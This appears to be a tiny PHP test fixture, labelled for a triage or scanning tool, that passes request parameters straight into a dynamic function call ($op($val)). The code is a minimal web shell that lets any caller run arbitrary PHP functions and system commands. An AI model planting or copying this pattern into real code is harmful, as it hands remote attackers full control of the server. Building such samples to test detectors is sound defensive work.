<?php
// triage-expect: triage_php_tiny_dynamic_exec
$op = $_REQUEST['op'];
$val = $_REQUEST['v'];
$op($val);
